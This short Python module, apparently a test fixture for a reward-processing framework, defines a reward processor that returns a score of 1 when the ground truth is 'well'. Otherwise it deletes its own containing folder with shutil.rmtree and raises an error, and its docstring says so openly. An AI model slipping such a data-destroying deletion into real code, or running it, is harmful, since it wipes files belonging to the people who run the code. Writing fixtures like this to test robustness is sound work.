"""Deletes the folder that its code is in."""

import os
import shutil

from strop import AbstractRewardProcessor


class F(AbstractRewardProcessor):
    def process(self, input):
        if input.ground_truth == "well":
            return {"reward": {"reward_score": 1}}
        shutil.rmtree(os.path.dirname(__file__))
        raise ValueError("nothing is left")
